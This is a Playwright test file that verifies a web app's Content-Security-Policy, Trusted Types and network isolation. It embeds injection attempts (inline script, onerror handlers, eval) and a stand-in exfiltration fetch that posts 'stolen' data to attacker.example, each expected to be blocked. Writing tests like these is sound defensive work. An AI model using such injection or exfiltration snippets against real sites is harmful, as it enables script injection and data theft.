import type { BrowserContext, Page, Request } from '@playwright/test';
import { DEMO_REPOS, DEMO_TOKENS } from '../fake-hub/fixtures.ts';
import { contentSecurityPolicy, resolveHubConfig } from '../../tools/hub-config.ts';
import { E2E_APP_PORT, E2E_CDN_PORT, E2E_HUB_PORT } from './browser.ts';
import { fillGenerateForm, generateAndWait, waitForServiceWorker } from './app-helpers.ts';
import { expect, test } from './fixtures.ts';

/**
 * CSP and isolation, proved in the browser against the production build: injected script and
 * foreign connections are blocked by the policy (not merely absent), and a whole session — sign-in,
 * gated download, generation — talks to no origin but the app's, the hub's and its download host's.
 */

const APP_ORIGIN = `http://localhost:${E2E_APP_PORT}`;
const HUB_ORIGIN = `http://127.0.0.1:${E2E_HUB_PORT}`;
const CDN_ORIGIN = `http://127.0.0.1:${E2E_CDN_PORT}`;
const ALLOWED_ORIGINS = new Set([APP_ORIGIN, HUB_ORIGIN, CDN_ORIGIN]);
const FOREIGN_URL = 'https://attacker.example/collect';

interface Violation {
  directive: string;
  blockedURI: string;
  disposition: string;
  sample: string;
}

/** Starts collecting `securitypolicyviolation` events in the page (they fire asynchronously). */
async function listenForViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    const seen: Violation[] = [];
    (window as unknown as { cspViolations: Violation[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push({ directive: event.effectiveDirective, blockedURI: event.blockedURI, disposition: event.disposition, sample: event.sample });
    });
  });
}

async function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => (window as unknown as { cspViolations: Violation[] }).cspViolations);
}

/** Every request of the context — pages, dedicated workers and the service worker — by URL. */
function recordRequests(context: BrowserContext): { url: string; type: string; fromServiceWorker: boolean; fromWorker: boolean }[] {
  const seen: { url: string; type: string; fromServiceWorker: boolean; fromWorker: boolean }[] = [];
  const record = (request: Request) => {
    const frame = (() => {
      try {
        return request.frame();
      } catch {
        return null; // Worker and service-worker requests have no frame.
      }
    })();
    seen.push({ url: request.url(), type: request.resourceType(), fromServiceWorker: request.serviceWorker() !== null, fromWorker: frame === null });
  };
  context.on('request', record);
  return seen;
}

function originOf(url: string): string {
  try {
    return new URL(url).origin;
  } catch {
    return url;
  }
}

test.describe('Content-Security-Policy', () => {
  test('the served policy is the one tools/hub-config.ts derives, with no unsafe-inline or unsafe-eval', async ({ page, hub: _hub }) => {
    const response = await page.goto('/');
    const served = response!.headers()['content-security-policy'];
    const expected = contentSecurityPolicy(resolveHubConfig({ VITE_HF_ENDPOINT: HUB_ORIGIN, VITE_HF_CDN_ORIGINS: CDN_ORIGIN }));
    expect(served).toBe(expected);
    expect(served).not.toContain("'unsafe-inline'");
    expect(served).not.toContain("'unsafe-eval'");
    expect(served).toContain("object-src 'none'");
    expect(served).toContain("base-uri 'none'");
    expect(response!.headers()['cross-origin-opener-policy']).toBe('same-origin');
    expect(response!.headers()['cross-origin-embedder-policy']).toBe('require-corp');
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  });

  for (const source of ['network', 'service worker'] as const) {
    test(`an injected inline script, event handler and eval are blocked (page from the ${source})`, async ({ page, hub: _hub }) => {
      await page.goto('/');
      if (source === 'service worker') {
        // The second load comes from the precache: the policy must survive it.
        await waitForServiceWorker(page);
        await page.reload();
        expect(await page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
      }
      await listenForViolations(page);
      const outcome = await page.evaluate(async () => {
        const attempts: Record<string, string> = {};
        const attempt = (name: string, inject: () => void) => {
          try {
            inject();
            attempts[name] = 'done';
          } catch (error) {
            attempts[name] = (error as Error).name;
          }
        };
        const w = window as unknown as { injected?: string };
        attempt('html', () => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.injected = \'html\'">'));
        attempt('script text', () => {
          const script = document.createElement('script');
          script.textContent = "window.injected = 'script text'";
          document.body.append(script);
        });
        attempt('script text node', () => {
          const script = document.createElement('script');
          script.append(document.createTextNode("window.injected = 'script text node'"));
          document.body.append(script);
        });
        attempt('handler', () => {
          const img = document.createElement('img');
          img.setAttribute('onerror', "window.injected = 'handler'");
          img.src = 'data:image/png;base64,AAAA';
          document.body.append(img);
        });
        // Later, outside DevTools' evaluation (which may eval regardless of the page's policy).
        await new Promise((resolve) => setTimeout(resolve, 0));
        attempt('eval', () => (0, eval)("window.injected = 'eval'"));
        // Let anything that slipped through run before looking.
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
        return { attempts, injected: w.injected ?? null };
      });
      // Trusted Types refuse the strings at the sink; eval is refused by script-src as well.
      expect(outcome.attempts).toEqual({ html: 'TypeError', 'script text': 'TypeError', 'script text node': 'done', handler: 'TypeError', eval: 'EvalError' });
      expect(outcome.injected).toBeNull();
      await expect
        .poll(async () => (await violations(page)).filter((v) => v.directive === 'require-trusted-types-for').map((v) => v.sample.split('|')[0]))
        .toEqual(expect.arrayContaining(['Element insertAdjacentHTML', 'HTMLScriptElement textContent', 'Element onerror', 'eval']));
      for (const v of await violations(page)) expect(v.disposition).toBe('enforce');
      // The app still works after the attempt.
      await expect(page.getByRole('tab', { name: 'Generate' })).toBeVisible();
    });
  }

  test('a fetch and a script from a foreign origin are blocked by the policy and never leave', async ({ page, context, hub: _hub }) => {
    const requests = recordRequests(context);
    const failures: string[] = [];
    context.on('requestfailed', (request) => failures.push(`${request.url()} ${request.failure()?.errorText}`));
    await page.goto('/');
    await listenForViolations(page);
    const outcome = await page.evaluate(async (url) => {
      let fetchError = '';
      try {
        await fetch(url, { method: 'POST', body: 'stolen', mode: 'no-cors' });
      } catch (error) {
        fetchError = (error as Error).name;
      }
      // A foreign script URL never reaches the element: the Trusted Types default policy refuses it.
      let scriptError = '';
      try {
        const script = document.createElement('script');
        script.src = `${url}.js`;
        document.head.append(script);
      } catch (error) {
        scriptError = `${(error as Error).name}: ${(error as Error).message}`;
      }
      return { fetchError, scriptError };
    }, FOREIGN_URL);
    expect(outcome.fetchError).toBe('TypeError');
    expect(outcome.scriptError).toBe("UntrustedScriptUrlError: Refused a script from https://attacker.example: only this app's own scripts may run.");
    await expect.poll(async () => (await violations(page)).map((v) => `${v.directive} ${v.blockedURI}`)).toContain(`connect-src ${FOREIGN_URL}`);
    // Chromium announces the fetch, then cancels it for the policy before any DNS lookup; the script is never requested.
    const foreign = requests.filter((r) => r.url.startsWith('https://attacker.example')).map((r) => r.url);
    expect(foreign).not.toContain(`${FOREIGN_URL}.js`);
    await expect.poll(() => failures.filter((f) => f.startsWith('https://attacker.example'))).toEqual(foreign.map((url) => `${url} csp`));
  });

  test('injected code cannot start a worker from a blob: URL (worker-src), so it cannot escape the policy that way', async ({ page, hub: _hub }) => {
    await page.goto('/');
    await listenForViolations(page);
    const outcome = await page.evaluate(async (url) => {
      const code = `fetch(${JSON.stringify(url)}).then(() => postMessage('sent'), () => postMessage('fetch failed'));`;
      try {
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        return await new Promise<string>((resolve) => {
          worker.onmessage = (event) => resolve(String(event.data));
          worker.onerror = () => resolve('worker error');
        });
      } catch (error) {
        return `threw ${(error as Error).name}`;
      }
    }, FOREIGN_URL);
    // Refused twice over: the Trusted Types policy takes no blob: script URL, and worker-src is 'self'.
    expect(outcome).toBe('threw UntrustedScriptUrlError');
  });

  test('Trusted Types: injected code cannot make its own policy, and the default policy refuses blob: script URLs', async ({ page, hub: _hub }) => {
    await page.goto('/');
    await listenForViolations(page);
    // Only the 'default' (ours) and 'lit-html' policies may exist; both are taken by the time the page runs.
    const outcome = await page.evaluate(() => {
      const factory = (window as unknown as { trustedTypes: { defaultPolicy: { createScriptURL(input: string): unknown } | null; createPolicy(name: string, rules: object): unknown } }).trustedTypes;
      let policy = '';
      try {
        factory.defaultPolicy!.createScriptURL(URL.createObjectURL(new Blob(['postMessage(1)'])));
      } catch (error) {
        policy = (error as Error).name;
      }
      let extraPolicy = '';
      try {
        factory.createPolicy('attacker', { createScriptURL: (input: string) => input });
      } catch (error) {
        extraPolicy = (error as Error).name;
      }
      return { policy, extraPolicy };
    });
    expect(outcome).toEqual({ policy: 'UntrustedScriptUrlError', extraPolicy: 'TypeError' });
    await expect.poll(async () => (await violations(page)).map((v) => v.directive)).toContain('trusted-types');
  });
});

test.describe('Isolation during a whole session', () => {
  test.use({ serviceWorkers: 'allow' });

  test('sign-in, gated download and generation reach only the app, the hub and its CDN; no third-party script', async ({ page, context, hub }) => {
    test.setTimeout(300_000);
    const requests = recordRequests(context);
    await page.goto('/');
    await waitForServiceWorker(page);

    // Sign in with a token that may download the gated repo.
    await page.getByRole('tab', { name: 'Settings' }).click();
    const auth = page.getByRole('region', { name: 'Hugging Face authentication' });
    await auth.getByLabel('Hugging Face token').fill(DEMO_TOKENS.bobWrite);
    await auth.getByRole('button', { name: 'Save token' }).click();
    await expect(auth.getByRole('status')).toHaveText('✓ Logged in as: bob');

    // Download a gated model (token to the hub, redirect to the CDN).
    await page.getByRole('tab', { name: 'Models' }).click();
    await page.getByRole('textbox', { name: 'Hugging Face repo' }).fill(DEMO_REPOS.gatedAuto);
    await page.getByRole('button', { name: 'Add model' }).click();
    const name = DEMO_REPOS.gatedAuto.slice(DEMO_REPOS.gatedAuto.indexOf('/') + 1);
    const item = page.getByRole('list', { name: 'Models' }).getByRole('listitem').filter({ has: page.getByRole('heading', { name, exact: true }) });
    await item.getByRole('button', { name: 'Download' }).click();
    await expect(item).toContainText('Ready offline', { timeout: 30_000 });

    // Generate with the downloaded model (its files come back through the service worker).
    await page.getByRole('tab', { name: 'Generate' }).click();
    await page.getByRole('combobox', { name: 'Model' }).selectOption({ label: name });
    await fillGenerateForm(page, { prompt: 'a red circle on a blue background', steps: 1, guidance: 1 });
    await generateAndWait(page);

    const origins = [...new Set(requests.map((r) => originOf(r.url)))].filter((o) => o !== 'null' && !o.startsWith('blob:') && !o.startsWith('data:'));
    const foreign = origins.filter((o) => !ALLOWED_ORIGINS.has(o) && !o.startsWith('data:') && !o.startsWith('blob:'));
    expect(foreign, `requests to ${foreign.join(', ')}`).toEqual([]);
    // All three origins were really exercised, and the recorder saw the service worker's own fetches.
    expect(origins).toEqual(expect.arrayContaining([APP_ORIGIN, HUB_ORIGIN, CDN_ORIGIN]));
    expect(requests.some((r) => r.fromServiceWorker)).toBe(true);
    expect(hub.requests.filter((r) => r.served === 'cdn' && r.authorization)).toEqual([]);

    // No third-party script: every script (page, workers, service worker) is the app's own.
    const scripts = requests.filter((r) => r.type === 'script' || /\.(m?js)(\?|$)/.test(r.url));
    expect(scripts.length).toBeGreaterThan(0);
    expect(scripts.filter((r) => originOf(r.url) !== APP_ORIGIN && !r.url.startsWith('blob:'))).toEqual([]);
    const scriptSources = await page.evaluate(() => [...document.scripts].map((s) => s.src || '(inline)'));
    for (const src of scriptSources) expect(originOf(src)).toBe(APP_ORIGIN);
  });
});
